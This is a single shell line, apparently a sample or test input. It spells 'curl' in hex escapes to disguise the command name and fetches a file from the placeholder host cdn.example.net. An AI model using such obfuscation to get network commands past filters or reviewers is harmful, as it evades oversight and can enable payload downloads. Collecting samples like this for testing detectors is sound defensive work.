$'\x63\x75\x72\x6c' https://cdn.example.net/a
